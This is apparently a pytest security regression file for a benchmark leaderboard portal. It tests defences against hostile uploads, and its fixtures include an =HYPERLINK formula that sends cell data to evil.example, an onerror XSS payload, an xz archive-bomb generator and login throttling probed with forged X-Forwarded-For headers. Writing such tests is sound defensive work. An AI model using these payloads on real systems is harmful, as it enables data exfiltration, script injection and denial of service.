"""A hostile user's upload on its way to the leaderboard (red-team pass, 2026-11-28): what a
candidate's text can do to the worker's post, what an archive can do to the web process, what
a run's fields can put in the exports. docs/portal.md, "Hostile users", says what each was."""

from __future__ import annotations

import io
import json
import lzma
import tarfile
import time
from typing import Any

import pytest
from rest_framework.test import APIClient

from portal.lib.reports import without_nul
from portal.submissions.models import Submission

from .conftest import VALID_SOURCE, client_for

pytestmark = pytest.mark.django_db


def worker_post(sub: Submission, what: str, token: str, body: dict[str, Any]) -> Any:
    # As worker/callback.py sends it: json.dumps, which writes a lone surrogate as "\ud800".
    client = APIClient(raise_request_exception=False)
    return client.post(f"/api/v1/worker/submissions/{sub.pk}/{what}/", json.dumps(body),
                       content_type="application/json", HTTP_AUTHORIZATION=f"Worker {token}")


def test_a_lone_surrogate_a_candidate_raised_is_stored_replaced_and_the_failure_counts(
        job: Any, real_report: dict[str, Any]) -> None:
    # `raise RuntimeError("\ud800")` reaches the report as it is (the evaluator writes it as
    # "\ud800", 2026-11-28). PostgreSQL refused it: the post got a 500, the worker retried it for
    # hours holding its queue, and the reaper at last failed the job: a fail that never counted.
    sub, token = job
    message = "rank 0: RuntimeError while running the solution: boom \ud800 lone \udcff"
    report = dict(real_report, verdict="fail", timing=None,
                  failure={"failure_class": "runtime_error", "message": message, "rank": 0,
                           "trial": None, "output": None, "traceback": "RuntimeError: boom \ud800",
                           "compiler_output": None, "stacks": {}, "stderr": {"0": "printed \ud800"}})
    assert worker_post(sub, "status", token, {"status": "running", "step": "trial \udc80"}).status_code == 200
    r = worker_post(sub, "report", token, {"report": report, "worker": "w1"})
    assert r.status_code == 200, r.content
    sub.refresh_from_db()
    assert sub.status == "finished" and sub.verdict == "fail" and sub.failure_class == "runtime_error"
    assert sub.report["failure"]["message"].endswith("boom \ufffd lone \ufffd")
    assert sub.progress == ""
    # A pair in JSON is one character, not two surrogates: it stays.
    assert without_nul(json.loads('["\\ud83d\\ude00", {"\\udc80": 1}]')) == ["\U0001f600", {"\ufffd": 1}]


def empty_members_xz(count: int) -> bytes:
    """A .tar.xz of ``count`` empty members: xz packs 200,000 of their headers in about 15 KB."""
    info = tarfile.TarInfo("all-reduce.py")
    info.size = 0
    header = info.tobuf(tarfile.USTAR_FORMAT)
    xz = lzma.LZMACompressor(preset=1)
    packed = b"".join(xz.compress(header * 10_000) for _ in range(count // 10_000))
    return packed + xz.compress(b"\0" * 1024) + xz.flush()


def test_an_archive_of_a_million_empty_members_is_refused_at_the_limit_not_after_reading_them_all(
        owner_api: Any, cpu_hardware: Any, all_reduce: Any, no_dispatch: list[int]) -> None:
    # Every header was read (tarfile.getmembers) before the count was checked: 150 KB of xz with
    # 2,000,000 members held a web process 39 s and 1.1 GB to refuse it, and 32 MiB of it
    # (PKB_RUN_MAX_ARCHIVE_BYTES) would hold 200 times that. Now the count stops the reading.
    run = owner_api.post("/api/v1/runs/", {"model": "m", "hardware": cpu_hardware.slug, "k": 1},
                         format="json").json()
    bomb = empty_members_xz(1_000_000)
    assert len(bomb) < 100_000
    started = time.monotonic()
    r = owner_api.post(f"/api/v1/runs/{run['id']}/samples/",
                       {"archive": io.BytesIO(bomb)}, format="multipart")
    took = time.monotonic() - started
    assert r.status_code == 413 and r.json()["error"]["code"] == "too_many_files"
    assert took < 3.0, f"{took:.1f} s to refuse it"


def test_a_member_that_declares_more_than_the_unpacked_limit_is_refused_before_its_data_is_read(
        settings: Any) -> None:
    from portal.runs.archives import read_archive
    from portal.submissions.validation import SubmissionError

    # One member says 1 GiB follows (and 2 MiB of zeros do, then the archive ends): the limit is
    # passed at its header, so nothing is decompressed past it.
    settings.PKB_RUN_MAX_UNPACKED_BYTES = 1 << 20
    info = tarfile.TarInfo("all-reduce.py")
    info.size = 1 << 30
    raw = lzma.compress(info.tobuf(tarfile.USTAR_FORMAT) + b"\0" * (2 << 20))
    with pytest.raises(SubmissionError) as refused:
        read_archive(raw)
    assert refused.value.code == "archive_too_large"


def damaged(how: str) -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("all-reduce.py", VALID_SOURCE)
    raw = bytearray(buf.getvalue())
    local, central = raw.find(b"PK\x03\x04"), raw.find(b"PK\x01\x02")
    if how == "zip_crc":
        raw[local + 14] ^= 0xFF
        raw[central + 16] ^= 0xFF
    elif how == "zip_encrypted":
        raw[central + 8] |= 1
    elif how == "zip_method":
        raw[central + 10] = 99
    return bytes(raw)


@pytest.mark.parametrize("how", ["zip_crc", "zip_encrypted", "zip_method"])
def test_a_damaged_archive_is_a_bad_archive_not_a_server_error(
        owner: Any, cpu_hardware: Any, all_reduce: Any, no_dispatch: list[int], how: str) -> None:

    api = client_for(owner)
    api.raise_request_exception = False
    run = api.post("/api/v1/runs/", {"model": "m", "hardware": cpu_hardware.slug, "k": 1}, format="json").json()
    r = api.post(f"/api/v1/runs/{run['id']}/samples/", {"archive": io.BytesIO(damaged(how))}, format="multipart")
    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_archive", r.content
    assert not Submission.objects.exists()


def test_a_run_provider_with_a_formula_or_markup_is_refused_as_an_uploads_is(
        owner_api: Any, cpu_hardware: Any) -> None:
    # A run's provider was stored unchecked and became its model's provider, which the problem
    # leaderboard's `credit` column shows and exports: `=HYPERLINK(...)` ran in a spreadsheet.
    for provider in ('=HYPERLINK("http://evil.example/?"&A1,"click")', "<img src=x onerror=alert(1)>"):
        r = owner_api.post("/api/v1/runs/", {"model": "new-model", "hardware": cpu_hardware.slug, "k": 1,
                                             "provider": provider}, format="json")
        assert r.status_code == 400 and r.json()["error"]["code"] == "bad_provider", r.content
    r = owner_api.post("/api/v1/runs/", {"model": "new-model", "hardware": cpu_hardware.slug, "k": 1,
                                         "provider": "OpenAI (via API)"}, format="json")
    assert r.status_code == 201 and r.json()["provider"] == "OpenAI (via API)"


def test_a_csv_export_never_starts_a_cell_with_a_formula_character() -> None:
    from portal.lib.tables import Column, Table

    # A username may start with + - @ (Django allows them) and is the `credit` of a person's row.
    rows = [{"credit": "-1+cmd", "speedup": -0.5}, {"credit": "@SUM(A1)", "speedup": 1.0},
            {"credit": "=1+1", "speedup": None}, {"credit": "plain", "speedup": 2.0}]
    csv = Table("problem", "t", [Column("credit", "By"), Column("speedup", "Speedup", "float")], rows).as_csv()
    assert csv.splitlines() == ["credit,speedup", "'-1+cmd,-0.5", "'@SUM(A1),1.0", "'=1+1,", "plain,2.0"]


def test_a_body_past_the_request_limit_is_a_413_so_a_worker_stops_retrying_it(
        job: Any, real_report: dict[str, Any], owner: Any, cpu_hardware: Any) -> None:

    # Django refuses a body over DATA_UPLOAD_MAX_MEMORY_SIZE (2.5 MB) when it is read; the API
    # answered that with a 500, which a worker retries with backoff for hours (worker/delivery.py)
    # while its queue waits. A 4xx is an answer: the worker stops and the job is left to the reaper.
    sub, token = job
    report = dict(real_report, verdict="fail", timing=None,
                  failure={"failure_class": "runtime_error", "message": "big", "rank": 0, "trial": None,
                           "output": None, "traceback": "x" * 3_000_000, "compiler_output": None,
                           "stacks": {}, "stderr": {}})
    r = worker_post(sub, "report", token, {"report": report})
    assert r.status_code == 413 and r.json()["error"]["code"] == "request_too_large", r.content
    sub.refresh_from_db()
    assert sub.is_pending
    api = client_for(owner)
    api.raise_request_exception = False
    r = api.post("/api/v1/submissions/", json.dumps({"problem": "all-reduce", "hardware": cpu_hardware.slug,
                                                     "source": VALID_SOURCE + "#" * 3_000_000}),
                 content_type="application/json")
    assert r.status_code == 413 and r.json()["error"]["code"] == "request_too_large"


@pytest.mark.parametrize("name", ["reference", "Reference", "baseline: reference", "Baseline:ref"])
def test_nobody_uploads_or_runs_under_the_reference_model(owner_api: Any, cpu_hardware: Any, all_reduce: Any,
                                                          no_dispatch: list[int], name: str) -> None:
    # An upload under "reference" was the problem board's row "reference 9.00x" with no credit,
    # and the reference's row on the model board.
    r = owner_api.post("/api/v1/submissions/", {"problem": "all-reduce", "hardware": cpu_hardware.slug,
                                                "model": name, "source": VALID_SOURCE}, format="json")
    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_model_name"
    r = owner_api.post("/api/v1/runs/", {"model": name, "hardware": cpu_hardware.slug, "k": 1}, format="json")
    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_model_name"
    assert not Submission.objects.exists()


def test_a_made_up_forwarded_for_header_does_not_reset_the_password_throttle(
        anonymous_api: APIClient, settings: Any, owner: Any) -> None:
    # DRF names a client by its whole X-Forwarded-For header unless NUM_PROXIES is set: a new
    # made-up address on each try was a new client, and the 10 guesses a minute had no limit.
    rates = {**settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"], "login": "3/min"}
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": rates}
    answers = [anonymous_api.post("/api/v1/auth/token/", {"username": "owner", "password": f"guess{i}"},
                                  HTTP_X_FORWARDED_FOR=f"198.51.100.{i}").status_code for i in range(5)]
    assert answers == [400, 400, 400, 429, 429]


def test_password_guessing_at_the_login_page_is_throttled_as_at_the_token_endpoint(
        client: Any, settings: Any, owner: Any) -> None:
    # The page's form (Django's LoginView) had no throttle at all: the token endpoint's 10 a
    # minute were no limit while the page took guesses as fast as they came.
    rates = {**settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"], "login": "3/min"}
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": rates}
    answers = [client.post("/accounts/login/", {"username": "owner", "password": f"guess{i}"}).status_code
               for i in range(4)]
    assert answers == [200, 200, 200, 429]  # 200: the form again, with its error
    refused = client.post("/accounts/login/", {"username": "owner", "password": "owner-pass-123"})
    assert refused.status_code == 429 and 0 < int(refused["Retry-After"]) <= 60
    assert "_auth_user_id" not in client.session


SECRET = "out = _secret_swizzle(x, 0x5eed)  # the trick"


def failed_with_source_quoted(sub: Submission, real_report: dict[str, Any]) -> None:
    """``sub`` finished with a failure whose traceback, compiler output, stacks and stderr quote
    a line of its source, as Python's traceback and NVRTC's log do."""
    from portal.submissions.lifecycle import record_report

    quoted = f'  File "/pkb/in/solution.py", line 7, in solution\n    {SECRET}\nNameError: _secret_swizzle'
    report = dict(real_report, verdict="fail", timing=None,
                  failure={"failure_class": "runtime_error", "message": "rank 0: NameError: _secret_swizzle",
                           "rank": 0, "trial": 0, "output": None, "traceback": quoted,
                           "compiler_output": f"solution.cu(7): error\n    {SECRET}\n    ^",
                           "stacks": {"1": quoted}, "stderr": {"0": quoted}})
    record_report(sub.pk, report)


def test_a_private_sources_lines_quoted_by_its_failure_stay_with_the_source(
        job: Any, real_report: dict[str, Any], client: Any, other: Any, owner: Any, staff: Any) -> None:
    # The source is its owner's and staff's, but the report was everyone's: the traceback, the
    # compiler's log, the stacks and stderr of a failure quote the lines of the source they pass
    # through, so anyone read them on the page and in the API.

    from pathlib import Path

    sub, _ = job
    failed_with_source_quoted(sub, real_report)
    # A sweep's sizes are whole reports too; one that failed quotes the source the same way.
    sweep = json.loads((Path(__file__).parent / "data" / "sweep_all_reduce_cpu.json").read_text())
    sweep["points"][0]["report"] = Submission.objects.get(pk=sub.pk).report
    Submission.objects.filter(pk=sub.pk).update(sweep_status="finished", sweep=sweep)
    for viewer in (None, other):
        client.logout()
        if viewer is not None:
            client.force_login(viewer)
        page = client.get(f"/submissions/{sub.pk}/").content.decode()
        assert SECRET not in page and "runtime_error" in page and "only its owner and staff" in page
        for linked in ("report.json", "sweep.json"):  # the whole reports the page links
            assert SECRET not in client.get(f"/submissions/{sub.pk}/{linked}").content.decode()
        body = client_for(viewer).get(f"/api/v1/submissions/{sub.pk}/").json()
        assert SECRET not in json.dumps(body)
        assert body["report"]["failure"]["failure_class"] == "runtime_error"
        assert body["report"]["failure"]["message"] == "rank 0: NameError: _secret_swizzle"
    for viewer in (owner, staff):
        client.force_login(viewer)
        assert SECRET in client.get(f"/submissions/{sub.pk}/").content.decode()
        assert SECRET in client.get(f"/submissions/{sub.pk}/report.json").json()["failure"]["traceback"]
        assert SECRET in client.get(f"/submissions/{sub.pk}/sweep.json").json()["points"][0]["report"]["failure"]["traceback"]
        body = client_for(viewer).get(f"/api/v1/submissions/{sub.pk}/").json()
        failure = body["report"]["failure"]
        assert SECRET in failure["traceback"] and SECRET in failure["compiler_output"]
        assert SECRET in failure["stacks"]["1"] and SECRET in failure["stderr"]["0"]
        assert SECRET in body["sweep"]["points"][0]["report"]["failure"]["traceback"]


def test_password_guessing_at_the_admin_login_is_throttled_too(client: Any, settings: Any, staff: Any) -> None:
    # The admin's login form takes staff passwords and had no throttle either.
    rates = {**settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"], "login": "3/min"}
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": rates}
    answers = [client.post("/admin/login/", {"username": "staff", "password": f"guess{i}"}).status_code
               for i in range(4)]
    assert answers == [200, 200, 200, 429]
    assert client.get("/admin/login/").status_code == 200  # the form itself is still served


def test_accounts_are_not_made_by_the_hundred_from_one_address(client: Any, settings: Any,
                                                               django_user_model: Any) -> None:
    # Every limit on uploads is per user (100 uploads and 2,000 run samples a day, 20 a minute), and
    # the signup form made users without limit: a script made as many queues' worth as it liked.
    rates = {**settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"], "signup": "3/hour"}
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": rates}
    answers = []
    for i in range(4):
        client.logout()
        answers.append(client.post("/accounts/signup/", {"username": f"farm{i}", "password1": "x7-Plenty-long",
                                                         "password2": "x7-Plenty-long"}).status_code)
    assert answers == [302, 302, 302, 429]
    assert django_user_model.objects.filter(username__startswith="farm").count() == 3


def test_a_runs_files_that_do_not_parse_count_as_failed_samples_not_as_no_samples(
        owner_api: Any, cpu_hardware: Any, all_reduce: Any, no_dispatch: list[int],
        real_report: dict[str, Any]) -> None:
    from .runs_helpers import finish, pack

    # A file the run refused for what the model wrote (no parse, no `solution`, empty, not UTF-8)
    # was no attempt at all: one correct sample and two that did not parse scored pass@1 100%,
    # where ParallelKernelBench (and a reader) counts 1 in 3.
    run = owner_api.post("/api/v1/runs/", {"model": "m", "hardware": cpu_hardware.slug, "k": 3},
                         format="json").json()
    files = {"all-reduce/0.py": VALID_SOURCE.encode(), "all-reduce/1.py": b"def solution(:\n",
             "all-reduce/2.py": b"print('no solution here')\n", "nowhere/0.py": b"def solution(:\n"}
    added = owner_api.post(f"/api/v1/runs/{run['id']}/samples/", {"archive": io.BytesIO(pack(files))},
                           format="multipart").json()
    assert added["accepted"] == 1
    finish(Submission.objects.get(), real_report, correct=True, speedup=1.2)
    scores = owner_api.get(f"/api/v1/runs/{run['id']}/scores/").json()
    for scope in ("run_problems", "suite"):
        assert scores[scope]["attempts"] == 3  # the unknown problem's file is no one's attempt
        assert scores[scope]["pass_at_k"]["1"] == pytest.approx(1 / 3)
        assert scores[scope]["outcomes"] == {"correct": 1, "syntax_error": 1, "missing_solution": 1}
    assert scores["run_problems"]["fast_p"]["0"] == 1.0  # the problem is still solved


def test_a_pkb_file_that_does_not_parse_is_a_failed_sample_of_the_problem_it_answers(
        owner_api: Any, cpu_hardware: Any, all_reduce: Any, no_dispatch: list[int],
        monkeypatch: pytest.MonkeyPatch) -> None:
    from .runs_helpers import PKB_DIR, TEST_PKB_INDEX, load_problems, pack

    load_problems(["all-gather"])
    monkeypatch.setattr("portal.runs.pkb.importer.pkb_index", lambda: TEST_PKB_INDEX)
    files = {f"{PKB_DIR.name}/2_allgather_cuda.py": (PKB_DIR / "2_allgather_cuda.py").read_bytes(),
             f"{PKB_DIR.name}/1_allreduce_cuda.py": b"def solution(:\n"}
    body = owner_api.post("/api/v1/runs/pkb-import/", {"archive": io.BytesIO(pack(files)),
                                                        "hardware": cpu_hardware.slug}, format="multipart").json()
    fates = {f["name"]: (f["status"], f["code"], f["problem"]) for f in body["files"]}
    assert fates["1_allreduce_cuda.py"] == ("rejected", "syntax_error", "all-reduce")
    scores = owner_api.get(f"/api/v1/runs/{body['id']}/scores/?partial=1").json()
    assert scores["run_problems"]["problems"] == 2 and scores["run_problems"]["outcomes"] == {"syntax_error": 1}


def test_a_runs_sampling_settings_are_a_few_settings_not_megabytes(owner_api: Any, cpu_hardware: Any) -> None:
    # `sampling` took any JSON object up to the 2.5 MB a body may be, and GET runs/ (anyone's,
    # 500 runs at a time) returns each run's: 20 runs of 2.4 MB made it 48 MB (2026-11-28), so
    # 500 made 1.2 GB a request, built in memory, and a minute of creating them 1.4 GB of database.
    big = {"temperature": 1.0, "pad": "x" * 100_000}
    r = owner_api.post("/api/v1/runs/", {"model": "m", "hardware": cpu_hardware.slug, "k": 1, "sampling": big},
                       format="json")
    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_sampling"
    r = owner_api.post("/api/v1/runs/", {"model": "m", "hardware": cpu_hardware.slug, "k": 1, "backend": "torch",
                                         "sampling": json.dumps(big)}, format="multipart")
    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_sampling"
    usual = {"temperature": 1.0, "top_p": 0.95, "max_tokens": 32768, "reasoning_effort": "high", "seed": 7}
    r = owner_api.post("/api/v1/runs/", {"model": "m", "hardware": cpu_hardware.slug, "k": 1, "sampling": usual},
                       format="json")
    assert r.status_code == 201 and r.json()["sampling"] == usual


def test_json_nested_deeper_than_python_reads_is_a_parse_error_not_a_server_error(
        job: Any, owner: Any, cpu_hardware: Any) -> None:

    # DRF answers only a ValueError of json as a parse error; its RecursionError was a 500, logged
    # with a thousand-frame traceback, and a 500 is what a worker retries for hours.
    sub, token = job
    deep = "[" * 100_000 + "]" * 100_000
    worker = APIClient(raise_request_exception=False)
    r = worker.post(f"/api/v1/worker/submissions/{sub.pk}/report/", '{"report": %s}' % deep,
                    content_type="application/json", HTTP_AUTHORIZATION=f"Worker {token}")
    assert r.status_code == 400 and r.json()["error"]["code"] == "parse_error", r.content
    api = client_for(owner)
    api.raise_request_exception = False
    for url in ("/api/v1/runs/", "/api/v1/submissions/"):
        r = api.post(url, '{"sampling": %s}' % deep, content_type="application/json")
        assert r.status_code == 400 and r.json()["error"]["code"] == "parse_error", (url, r.content)


@pytest.mark.parametrize("text", ["a\x00b", "a\ud800b"])
def test_text_postgres_cannot_store_is_a_parse_error_from_users_not_a_server_error(
        owner: Any, cpu_hardware: Any, all_reduce: Any, no_dispatch: list[int], text: str) -> None:

    # A run's note, link or sampling with U+0000 or a lone surrogate reached PostgreSQL, which
    # refused it: a 500 (and the same for a sample's agent context, and a JSON source's surrogate).
    api = client_for(owner)
    api.raise_request_exception = False
    for extra in ({"note": text}, {"sampling": {"t": text}}, {"sampling": {text: 1}}):
        r = api.post("/api/v1/runs/", json.dumps({"model": "m", "hardware": cpu_hardware.slug, "k": 2, **extra}),
                     content_type="application/json")
        assert r.status_code == 400 and r.json()["error"]["code"] == "parse_error", (extra, r.content)
    r = api.post("/api/v1/submissions/", json.dumps({"problem": "all-reduce", "hardware": cpu_hardware.slug,
                                                     "source": VALID_SOURCE + f"# {text}\n"}),
                 content_type="application/json")
    assert r.status_code == 400 and r.json()["error"]["code"] == "parse_error"
    if "\x00" in text:  # a form's fields hold no surrogates (they are decoded from UTF-8), but NUL
        r = api.post("/api/v1/runs/", {"model": "m", "hardware": cpu_hardware.slug, "k": "2", "note": text},
                     format="multipart")
        assert r.status_code == 400 and r.json()["error"]["code"] == "parse_error", r.content
    assert not Submission.objects.exists()


@pytest.mark.parametrize("turn", [-1, 10**12, "two"])
def test_an_agent_turn_out_of_range_is_a_bad_turn_not_a_server_error(
        owner: Any, cpu_hardware: Any, all_reduce: Any, no_dispatch: list[int], turn: Any) -> None:

    api = client_for(owner)
    api.raise_request_exception = False
    run = api.post("/api/v1/runs/", {"model": "m", "hardware": cpu_hardware.slug, "k": 2}, format="json").json()
    r = api.post(f"/api/v1/runs/{run['id']}/samples/", {"problem": "all-reduce", "source": VALID_SOURCE,
                                                        "turn": turn}, format="json")
    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_turn", r.content
